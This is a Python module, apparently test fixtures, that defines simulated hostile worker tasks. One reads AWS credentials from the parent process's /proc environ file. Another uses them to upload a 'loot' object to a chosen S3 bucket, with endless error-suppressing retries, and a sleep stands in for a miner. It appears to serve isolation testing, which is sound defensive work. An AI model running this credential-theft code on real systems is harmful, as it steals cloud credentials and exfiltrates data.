"""What hostile code does on a worker; each function is made so that it travels by value."""

from __future__ import annotations

import contextlib
import os
import time
from collections.abc import Callable

import boto3
from botocore.exceptions import ClientError

__all__ = ["keeps_sending", "mines", "sends", "sends_again", "steals"]


def steals() -> Callable[[], dict[str, str]]:
    """Return a task that gives the credentials of its worker's role: they are its parent's."""

    def steal() -> dict[str, str]:
        with open(f"/proc/{os.getppid()}/environ", encoding="utf-8") as environ:
            pairs = (entry.partition("=") for entry in environ.read().split("\0"))
            return {name: value for name, _, value in pairs if name.startswith("AWS_")}

    return steal


def sends() -> Callable[[str], dict[str, str]]:
    """Return a task that puts an object into a bucket, and gives its keys and what S3 said."""
    steal = steals()

    def send(bucket: str) -> dict[str, str]:
        keys = steal()
        session = boto3.Session(
            keys["AWS_ACCESS_KEY_ID"],
            keys["AWS_SECRET_ACCESS_KEY"],
            keys["AWS_SESSION_TOKEN"],
            region_name=keys["AWS_REGION"],
        )
        s3 = session.client(
            "s3", endpoint_url=keys["AWS_ENDPOINT_URL"], verify=keys["AWS_CA_BUNDLE"]
        )
        try:
            s3.put_object(Bucket=bucket, Key="loot", Body=b"what is worth stealing")
        except ClientError as error:
            return {**keys, "said": str(error)}
        return {**keys, "said": ""}

    return send


def keeps_sending() -> Callable[[str], None]:
    """Return a task that tries for as long as its worker runs."""
    send = sends_again()

    def go_on(bucket: str) -> None:
        while True:
            send(bucket)

    return go_on


def sends_again() -> Callable[[str], None]:
    """Return a task that tries once more, half a second later."""
    send = sends()

    def try_again(bucket: str) -> None:
        time.sleep(0.5)
        with contextlib.suppress(Exception):
            send(bucket)

    return try_again


def mines() -> Callable[[int], int]:
    """Return a task that takes half a second of a worker's time."""

    def mine(number: int) -> int:
        time.sleep(0.5)
        return number

    return mine
